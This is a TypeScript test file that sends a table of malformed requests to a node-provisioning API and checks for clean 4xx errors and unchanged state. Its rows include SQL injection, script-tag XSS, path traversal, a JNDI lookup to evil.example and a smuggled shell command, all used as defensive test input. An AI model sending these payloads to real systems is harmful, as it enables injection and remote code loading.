/**
 * Malformed requests, table-driven: every parameter of every call (key, ver, arch, count, flavor,
 * ssid, alias, lifetime, node) missing, empty, of the wrong type, out of range, too long, with odd
 * characters, injection attempts and repeated with different values, sent the way legacy clients
 * send them (GET, unencoded query: only what a URL cannot carry is percent-encoded) and a few as
 * POST form or JSON bodies.
 *
 * Each one must answer 4xx (never 5xx) with a JSON `{"msg": ...}` naming the parameter, except a
 * malformed session reference (403 `Invalid session ID`) and a missing or bad key (403
 * `Invalid duffy key`). None of them may change anything: the unkeyed inventory and the project's
 * session list are byte-for-byte the same after the whole table as before it.
 */
import { KEYS, send, startTestServer, removeDir, type Reply, type TestServer } from './support/server.js';

interface Row {
  name: string;
  path: string;
  /** A raw query string (without `?`); placeholders {key}, {other}, {live}, {LIVE}, {alias}, {host}. */
  query?: string;
  /** A POST body: a form (raw text) or a JSON value (placeholders are replaced in its serialized text). */
  body?: { form: string } | { json: unknown };
  expectStatus: number;
  expectMsg: RegExp;
}

const LIVE_ALIAS = 'live-job';
const INVALID_KEY = /^Invalid duffy key$/;
const INVALID_SESSION = /^Invalid session ID$/;

const long = (n: number, ch = 'a'): string => ch.repeat(n);

const ROWS: Row[] = [
  // ---- key: missing, empty, unknown, odd, two different keys (403 before anything else) ----
  { name: 'key missing on /Node/get', path: '/Node/get', query: 'count=1', expectStatus: 403, expectMsg: INVALID_KEY },
  { name: 'key missing beats a malformed count', path: '/Node/get', query: 'count=abc', expectStatus: 403, expectMsg: INVALID_KEY },
  { name: 'key empty on /Session/list', path: '/Session/list', query: 'key=', expectStatus: 403, expectMsg: INVALID_KEY },
  { name: 'key unknown on /Node/done of the live session', path: '/Node/done', query: 'key=nope&ssid={live}', expectStatus: 403, expectMsg: INVALID_KEY },
  { name: "key ' OR 1=1 --", path: '/Session/get', query: "key=' OR 1=1 --", expectStatus: 403, expectMsg: INVALID_KEY },
  { name: 'key with a newline appended', path: '/Session/list', query: 'key={key}%0A', expectStatus: 403, expectMsg: INVALID_KEY },
  { name: 'key of 1000 characters', path: '/Session/show', query: `key=${long(1000)}&ssid={live}`, expectStatus: 403, expectMsg: INVALID_KEY },
  { name: 'key given twice with different values on /Inventory', path: '/Inventory', query: 'key={key}&key={other}', expectStatus: 403, expectMsg: INVALID_KEY },
  { name: 'key injection on keyed /Inventory', path: '/Inventory', query: 'key=; DROP TABLE nodes', expectStatus: 403, expectMsg: INVALID_KEY },
  { name: 'key of another project on /Node/fail of the live session', path: '/Node/fail', query: 'key={other}&ssid={live}', expectStatus: 403, expectMsg: INVALID_SESSION },

  // ---- ver ----
  { name: 'ver empty', path: '/Node/get', query: 'key={key}&ver=', expectStatus: 400, expectMsg: /^ver: empty value/ },
  { name: 'ver of 65 characters', path: '/Node/get', query: `key={key}&ver=${long(65, '7')}`, expectStatus: 400, expectMsg: /^ver: / },
  { name: 'ver with a space', path: '/Node/get', query: 'key={key}&ver=7 8', expectStatus: 400, expectMsg: /^ver: / },
  { name: 'ver with unicode', path: '/Node/get', query: 'key={key}&ver=7é', expectStatus: 400, expectMsg: /^ver: / },
  { name: 'ver <script>', path: '/Node/get', query: 'key={key}&ver=<script>alert(1)</script>', expectStatus: 400, expectMsg: /^ver: / },
  { name: 'ver %00', path: '/Node/get', query: 'key={key}&ver=7%00', expectStatus: 400, expectMsg: /^ver: / },
  { name: 'ver SQL injection', path: '/Node/get', query: "key={key}&ver=7'; DROP TABLE nodes; --", expectStatus: 400, expectMsg: /^ver: / },
  { name: 'ver path traversal', path: '/Node/get', query: 'key={key}&ver=../../etc/passwd', expectStatus: 400, expectMsg: /^ver: / },
  { name: 'ver repeated with different values', path: '/Node/get', query: 'key={key}&ver=7&ver=9-stream', expectStatus: 400, expectMsg: /^ver: given 2 times/ },

  // ---- arch ----
  { name: 'arch empty', path: '/Node/get', query: 'key={key}&arch=', expectStatus: 400, expectMsg: /^arch: empty value/ },
  { name: 'arch ${jndi:...}', path: '/Node/get', query: 'key={key}&arch=${jndi:ldap://evil.example/a}', expectStatus: 400, expectMsg: /^arch: / },
  { name: 'arch of 65 characters', path: '/Node/get', query: `key={key}&arch=${long(65, 'x')}`, expectStatus: 400, expectMsg: /^arch: / },
  { name: 'arch with an encoded newline', path: '/Node/get', query: 'key={key}&arch=x86_64%0Aaarch64', expectStatus: 400, expectMsg: /^arch: / },
  { name: 'arch in double quotes', path: '/Node/get', query: 'key={key}&arch="x86_64"', expectStatus: 400, expectMsg: /^arch: / },

  // ---- count ----
  { name: 'count empty', path: '/Node/get', query: 'key={key}&count=', expectStatus: 400, expectMsg: /^count: empty value/ },
  { name: 'count 0', path: '/Node/get', query: 'key={key}&count=0', expectStatus: 400, expectMsg: /^count: 0 is out of range/ },
  { name: 'count -1', path: '/Node/get', query: 'key={key}&count=-1', expectStatus: 400, expectMsg: /^count: / },
  { name: 'count 51, beyond max-count 50', path: '/Node/get', query: 'key={key}&count=51', expectStatus: 400, expectMsg: /^count: 51 is out of range; accepted: a whole number from 1 to 50/ },
  { name: 'count 1.5', path: '/Node/get', query: 'key={key}&count=1.5', expectStatus: 400, expectMsg: /^count: "1.5" is not a whole number/ },
  { name: 'count 1e3', path: '/Node/get', query: 'key={key}&count=1e3', expectStatus: 400, expectMsg: /^count: "1e3"/ },
  { name: 'count 999999999', path: '/Node/get', query: 'key={key}&count=999999999', expectStatus: 400, expectMsg: /^count: / },
  { name: 'count 99999999999999999999', path: '/Node/get', query: 'key={key}&count=99999999999999999999', expectStatus: 400, expectMsg: /^count: / },
  { name: 'count abc', path: '/Node/get', query: 'key={key}&count=abc', expectStatus: 400, expectMsg: /^count: / },
  { name: 'count 0x10', path: '/Node/get', query: 'key={key}&count=0x10', expectStatus: 400, expectMsg: /^count: / },
  { name: 'count +1 (a query + reads as a space)', path: '/Node/get', query: 'key={key}&count=+1', expectStatus: 400, expectMsg: /^count: / },
  { name: 'count 1 OR 1=1', path: '/Node/get', query: 'key={key}&count=1 OR 1=1', expectStatus: 400, expectMsg: /^count: / },
  { name: 'count with a bad percent escape', path: '/Node/get', query: 'key={key}&count=%zz', expectStatus: 400, expectMsg: /^count: / },
  { name: 'count repeated with different values', path: '/Node/get', query: 'key={key}&count=1&count=2', expectStatus: 400, expectMsg: /^count: given 2 times/ },
  { name: 'count 0 into the live session', path: '/Node/get', query: 'key={key}&ssid={live}&count=0', expectStatus: 400, expectMsg: /^count: / },
  { name: 'count 51 beats a malformed ssid', path: '/Node/get', query: 'key={key}&ssid=<script>&count=51', expectStatus: 400, expectMsg: /^count: / },

  // ---- flavor (empty is no flavor, so not here) ----
  { name: 'flavor with a space', path: '/Node/get', query: 'key={key}&flavor=tiny tiny', expectStatus: 400, expectMsg: /^flavor: / },
  { name: 'flavor of 65 characters', path: '/Node/get', query: `key={key}&flavor=${long(65, 't')}`, expectStatus: 400, expectMsg: /^flavor: / },
  { name: 'flavor <script>', path: '/Node/get', query: 'key={key}&ver=9-stream&arch=aarch64&flavor=<script>', expectStatus: 400, expectMsg: /^flavor: / },
  { name: 'flavor repeated with different values', path: '/Node/get', query: 'key={key}&flavor=tiny&flavor=small', expectStatus: 400, expectMsg: /^flavor: given 2 times/ },

  // ---- ssid: missing or empty is 400 naming ssid; anything that cannot name a session is 403 ----
  { name: 'ssid missing on /Node/done', path: '/Node/done', query: 'key={key}', expectStatus: 400, expectMsg: /^ssid: missing/ },
  { name: 'ssid missing on /Session/show', path: '/Session/show', query: 'key={key}', expectStatus: 400, expectMsg: /^ssid: missing/ },
  { name: 'ssid empty on /Node/done', path: '/Node/done', query: 'key={key}&ssid=', expectStatus: 400, expectMsg: /^ssid: empty value/ },
  { name: 'ssid empty on /Node/get', path: '/Node/get', query: 'key={key}&ssid=', expectStatus: 400, expectMsg: /^ssid: empty value/ },
  { name: 'ssid empty on /Session/extend', path: '/Session/extend', query: 'key={key}&ssid=&lifetime=1h', expectStatus: 400, expectMsg: /^ssid: empty value/ },
  { name: 'ssid repeated with different values', path: '/Session/show', query: 'key={key}&ssid={live}&ssid=other', expectStatus: 400, expectMsg: /^ssid: given 2 times/ },
  { name: "ssid ' OR 1=1 --", path: '/Session/show', query: "key={key}&ssid=' OR 1=1 --", expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid ; DROP TABLE sessions', path: '/Session/done', query: 'key={key}&ssid=; DROP TABLE sessions', expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid <script> on /Node/fail', path: '/Node/fail', query: 'key={key}&ssid=<script>alert(1)</script>', expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid ${jndi:...}', path: '/Session/show', query: 'key={key}&ssid=${jndi:ldap://evil.example/a}', expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid of 129 characters', path: '/Session/show', query: `key={key}&ssid=${long(129)}`, expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid %00 on /Node/get', path: '/Node/get', query: 'key={key}&ssid=%00', expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid of the live session with a newline appended', path: '/Node/done', query: 'key={key}&ssid={live}%0A', expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid with unicode', path: '/Session/show', query: 'key={key}&ssid=jöb', expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid path traversal (valid alias characters, no such session)', path: '/Session/show', query: 'key={key}&ssid=../../etc/passwd', expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid of the live session in upper case', path: '/Node/done', query: 'key={key}&ssid={LIVE}', expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'ssid with a space after the live alias', path: '/Session/done', query: 'ssid={alias} &key={key}', expectStatus: 403, expectMsg: INVALID_SESSION },

  // ---- alias ----
  { name: 'alias empty', path: '/Session/get', query: 'key={key}&alias=', expectStatus: 400, expectMsg: /^alias: empty value/ },
  { name: 'alias of 129 characters', path: '/Session/get', query: `key={key}&alias=${long(129)}`, expectStatus: 400, expectMsg: /^alias: / },
  { name: 'alias with + (reads as a space)', path: '/Session/get', query: 'key={key}&alias=job+1', expectStatus: 400, expectMsg: /^alias: "job 1" is not valid: a space is not allowed \(a '\+' in a query string reads as a space\)/ },
  { name: 'alias with a space', path: '/Session/get', query: 'key={key}&alias=job%201', expectStatus: 400, expectMsg: /^alias: "job 1" is not valid: a space is not allowed/ },
  { name: "alias ' OR 1=1 --", path: '/Session/get', query: "key={key}&alias=' OR 1=1 --", expectStatus: 400, expectMsg: /^alias: / },
  { name: 'alias <script>', path: '/Session/get', query: 'key={key}&alias=<script>alert(1)</script>', expectStatus: 400, expectMsg: /^alias: / },
  { name: 'alias with unicode', path: '/Session/get', query: 'key={key}&alias=jöb', expectStatus: 400, expectMsg: /^alias: / },
  { name: 'alias with an encoded newline', path: '/Session/get', query: 'key={key}&alias=job%0Aname', expectStatus: 400, expectMsg: /^alias: / },
  { name: 'alias ${jndi:...}', path: '/Session/get', query: 'key={key}&alias=${jndi:ldap://evil.example/a}', expectStatus: 400, expectMsg: /^alias: / },
  { name: 'alias %00', path: '/Session/get', query: 'key={key}&alias=%00', expectStatus: 400, expectMsg: /^alias: / },
  { name: 'alias repeated with different values', path: '/Session/get', query: 'key={key}&alias={alias}&alias=other', expectStatus: 400, expectMsg: /^alias: given 2 times/ },

  // ---- lifetime ----
  { name: 'lifetime empty', path: '/Session/get', query: 'key={key}&lifetime=', expectStatus: 400, expectMsg: /^lifetime: empty value/ },
  { name: 'lifetime 0s', path: '/Session/get', query: 'key={key}&lifetime=0s', expectStatus: 400, expectMsg: /^lifetime: "0s" is not a duration/ },
  { name: 'lifetime 0d0h0m0s', path: '/Session/get', query: 'key={key}&lifetime=0d0h0m0s', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime -1h', path: '/Session/get', query: 'key={key}&lifetime=-1h', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime 1m1h (units out of order)', path: '/Session/get', query: 'key={key}&lifetime=1m1h', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime 1.5h', path: '/Session/get', query: 'key={key}&lifetime=1.5h', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime abc', path: '/Session/get', query: 'key={key}&lifetime=abc', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime 6hh', path: '/Session/get', query: 'key={key}&lifetime=6hh', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime never2', path: '/Session/get', query: 'key={key}&lifetime=never2', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime NEVER', path: '/Session/get', query: 'key={key}&lifetime=NEVER', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime 6 h', path: '/Session/get', query: 'key={key}&lifetime=6 h', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime 3600 (no unit)', path: '/Session/get', query: 'key={key}&lifetime=3600', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime 9999999d (huge)', path: '/Session/get', query: 'key={key}&lifetime=9999999d', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime 6h;sleep 10', path: '/Session/get', query: 'key={key}&lifetime=6h;sleep 10', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime 0s on the live session', path: '/Session/extend', query: 'key={key}&ssid={live}&lifetime=0s', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'lifetime missing on the live session (by alias)', path: '/Session/extend', query: 'key={key}&ssid={alias}', expectStatus: 400, expectMsg: /^lifetime: missing/ },
  { name: 'lifetime repeated with different values on the live session', path: '/Session/extend', query: 'key={key}&ssid={live}&lifetime=1h&lifetime=2h', expectStatus: 400, expectMsg: /^lifetime: given 2 times/ },

  // ---- node (against the live session: a bad node must release nothing) ----
  { name: 'node empty', path: '/Node/done', query: 'key={key}&ssid={live}&node=', expectStatus: 400, expectMsg: /^node: empty hostname/ },
  { name: 'node of 300 characters', path: '/Node/done', query: `key={key}&ssid={live}&node=${long(300, 'n')}`, expectStatus: 400, expectMsg: /^node: / },
  { name: 'node <script>', path: '/Node/done', query: 'key={key}&ssid={live}&node=<script>alert(1)</script>', expectStatus: 400, expectMsg: /^node: / },
  { name: 'node ; DROP TABLE nodes', path: '/Node/done', query: 'key={key}&ssid={live}&node=; DROP TABLE nodes', expectStatus: 400, expectMsg: /^node: / },
  { name: 'node path traversal', path: '/Node/done', query: 'key={key}&ssid={live}&node=../../etc/passwd', expectStatus: 400, expectMsg: /^node: / },
  { name: 'node list with an empty item', path: '/Node/done', query: 'key={key}&ssid={live}&node={host},,', expectStatus: 400, expectMsg: /^node: empty hostname/ },
  { name: 'node with unicode', path: '/Node/done', query: 'key={key}&ssid={live}&node=nöde.example', expectStatus: 400, expectMsg: /^node: / },
  { name: 'node %00', path: '/Node/done', query: 'key={key}&ssid={live}&node=%00', expectStatus: 400, expectMsg: /^node: / },
  { name: 'node repeated: a live host and a bad one (nothing released)', path: '/Node/done', query: 'key={key}&ssid={live}&node={host}&node=bad host', expectStatus: 400, expectMsg: /^node: / },
  { name: "node ' OR 1=1 -- on /Node/fail by alias", path: '/Node/fail', query: "key={key}&ssid={alias}&node=' OR 1=1 --", expectStatus: 400, expectMsg: /^node: / },
  { name: 'node ${jndi:...} on /Node/fail', path: '/Node/fail', query: 'key={key}&ssid={live}&node=${jndi:ldap://evil.example/a}', expectStatus: 400, expectMsg: /^node: / },
  { name: 'node without ssid', path: '/Node/done', query: 'key={key}&node={host}', expectStatus: 400, expectMsg: /^ssid: missing/ },

  // ---- POST form and JSON bodies ----
  { name: 'POST form: count 0', path: '/Node/get', body: { form: 'key={key}&count=0' }, expectStatus: 400, expectMsg: /^count: / },
  { name: 'POST form: alias with + (a space once decoded)', path: '/Session/get', body: { form: 'key={key}&alias=a+b' }, expectStatus: 400, expectMsg: /^alias: / },
  { name: 'POST form: node <script> on the live session', path: '/Node/done', body: { form: 'key={key}&ssid={live}&node=%3Cscript%3E' }, expectStatus: 400, expectMsg: /^node: / },
  { name: 'POST JSON: count 1.5 (a number)', path: '/Node/get', body: { json: { key: '{key}', count: 1.5 } }, expectStatus: 400, expectMsg: /^count: / },
  { name: 'POST JSON: count 51 (a string)', path: '/Node/get', body: { json: { key: '{key}', count: '51' } }, expectStatus: 400, expectMsg: /^count: 51 is out of range/ },
  { name: 'POST JSON: count 1e3 (a number)', path: '/Node/get', body: { json: { key: '{key}', count: 1e3 } }, expectStatus: 400, expectMsg: /^count: / },
  { name: 'POST JSON: count true', path: '/Node/get', body: { json: { key: '{key}', count: true } }, expectStatus: 400, expectMsg: /^count: / },
  { name: 'POST JSON: count {"$gt": 0}', path: '/Node/get', body: { json: { key: '{key}', count: { $gt: 0 } } }, expectStatus: 400, expectMsg: /^count: / },
  { name: 'POST JSON: count [1, 2]', path: '/Node/get', body: { json: { key: '{key}', count: [1, 2] } }, expectStatus: 400, expectMsg: /^count: given 2 times/ },
  { name: 'POST JSON: ver empty', path: '/Node/get', body: { json: { key: '{key}', ver: '' } }, expectStatus: 400, expectMsg: /^ver: empty value/ },
  { name: 'POST JSON: lifetime 3600 (a number)', path: '/Session/get', body: { json: { key: '{key}', lifetime: 3600 } }, expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'POST JSON: lifetime -1h on the live session', path: '/Session/extend', body: { json: { key: '{key}', ssid: '{live}', lifetime: '-1h' } }, expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'POST JSON: node list with <script> on the live session', path: '/Node/done', body: { json: { key: '{key}', ssid: '{live}', node: ['{host}', '<script>'] } }, expectStatus: 400, expectMsg: /^node: / },
  { name: "POST JSON: ssid ' OR 1=1 --", path: '/Session/show', body: { json: { key: '{key}', ssid: "' OR 1=1 --" } }, expectStatus: 403, expectMsg: INVALID_SESSION },
  { name: 'POST JSON: alias as an object', path: '/Session/get', body: { json: { key: '{key}', alias: { a: 1 } } }, expectStatus: 400, expectMsg: /^alias: / },
  { name: 'POST JSON: two different keys', path: '/Session/list', body: { json: { key: ['{key}', '{other}'] } }, expectStatus: 403, expectMsg: INVALID_KEY },
  { name: 'POST JSON: count in the query and a different one in the body', path: '/Node/get', query: 'count=1', body: { json: { key: '{key}', count: 2 } }, expectStatus: 400, expectMsg: /^count: given 2 times/ },
  { name: 'POST JSON: count null is an empty value', path: '/Node/get', body: { json: { key: '{key}', count: null } }, expectStatus: 400, expectMsg: /^count: empty/ },
  { name: 'POST JSON: node as an empty list', path: '/Node/done', body: { json: { key: '{key}', ssid: '{live}', node: [] } }, expectStatus: 400, expectMsg: /^node: / },
  // Precedence: a malformed parameter (400) answers before a malformed session reference (403).
  { name: 'lifetime abc beats a malformed ssid on /Session/extend', path: '/Session/extend', query: 'key={key}&ssid=<script>&lifetime=abc', expectStatus: 400, expectMsg: /^lifetime: / },
  { name: 'node <script> beats a malformed ssid on /Node/done', path: '/Node/done', query: 'key={key}&ssid=<script>&node=<script>', expectStatus: 400, expectMsg: /^node: / },
  { name: 'node <script> beats a malformed ssid on /Node/fail', path: '/Node/fail', query: "key={key}&ssid=' OR 1=1&node=<script>", expectStatus: 400, expectMsg: /^node: / },
];

/**
 * Precedence that docs/api.md asks for and the server does not keep yet: a malformed parameter (400)
 * comes before a session reference (403), but /Session/extend, /Node/done and /Node/fail read
 * `ssid` before `lifetime`/`node`. `test.failing`: these pass while the bug is there; once it is
 * fixed they fail, and the rows belong in ROWS above.
 */

let server: TestServer;
let values: Record<string, string>;
let before: { inventory: string; sessions: string };

async function snapshot(): Promise<{ inventory: string; sessions: string }> {
  const inventory = await server.get('/Inventory');
  const sessions = await server.get('/Session/list', { key: KEYS.alpha });
  expect(inventory.status).toBe(200);
  expect(sessions.status).toBe(200);
  return { inventory: inventory.text, sessions: sessions.text };
}

function fill(text: string): string {
  return text.replace(/\{(key|other|live|LIVE|alias|host)\}/g, (_m, name: string) => values[name]!);
}

async function sendRow(row: Row): Promise<Reply> {
  const url = `${server.url}${row.path}${row.query !== undefined ? `?${fill(row.query)}` : ''}`;
  if (row.body === undefined) return send(url);
  const [body, contentType] = 'form' in row.body ? [fill(row.body.form), 'application/x-www-form-urlencoded'] : [fill(JSON.stringify(row.body.json)), 'application/json'];
  return send(url, { method: 'POST', body, headers: { 'content-type': contentType } });
}

async function check(row: Row): Promise<void> {
  const reply = await sendRow(row);
  // the body rides along so that a wrong status shows what the server said
  expect({ status: reply.status, body: reply.text }).toEqual({ status: row.expectStatus, body: reply.text });
  expect(reply.status).toBeGreaterThanOrEqual(400);
  expect(reply.status).toBeLessThan(500);
  expect(reply.headers.get('content-type')).toMatch(/^application\/json/);
  expect(reply.json).toEqual({ msg: expect.any(String) });
  expect((reply.json as { msg: string }).msg).toMatch(row.expectMsg);
}

beforeAll(async () => {
  server = await startTestServer({ defaults: { 'rate-limit': '100/5m' } });
  const session = await server.get('/Session/get', { key: KEYS.alpha, alias: LIVE_ALIAS });
  expect(session.status).toBe(200);
  const live = (session.json as { ssid: string }).ssid;
  const added = await server.get('/Node/get', { key: KEYS.alpha, ssid: live, count: 2 });
  expect(added.status).toBe(200);
  const hosts = (added.json as { hosts: string[] }).hosts;
  // a second, legacy session, so the inventory and the list hold more than one
  expect((await server.get('/Node/get', { key: KEYS.alpha, ver: '9-stream' })).status).toBe(200);
  values = { key: KEYS.alpha, other: KEYS.beta, live, LIVE: live.toUpperCase(), alias: LIVE_ALIAS, host: hosts[0]! };
  before = await snapshot();
  expect(JSON.parse(before.sessions)).toHaveLength(2);
  expect((JSON.parse(before.inventory) as unknown[][]).filter((r) => r[5] === 'Deployed')).toHaveLength(3);
});

afterAll(async () => {
  await server.close();
  removeDir(server.dir);
});

test('the table covers every parameter and has at least 45 rows', () => {
  expect(ROWS.length).toBeGreaterThanOrEqual(45);
  const text = ROWS.map((r) => `${r.query ?? ''} ${JSON.stringify(r.body ?? {})}`).join(' ');
  for (const name of ['key', 'ver', 'arch', 'count', 'flavor', 'ssid', 'alias', 'lifetime', 'node']) {
    expect(text).toMatch(new RegExp(`(^|[&"{ ])${name}["=]`));
  }
  expect(new Set(ROWS.map((r) => r.name)).size).toBe(ROWS.length);
});

test.each(ROWS)('$name', async (row) => {
  await check(row);
});

test('nothing changed: the unkeyed inventory and the session list are byte-for-byte the same', async () => {
  const after = await snapshot();
  expect(after.inventory).toBe(before.inventory);
  expect(after.sessions).toBe(before.sessions);
  expect(server.logs.join('\n')).not.toMatch(/"status":5\d\d/);
});
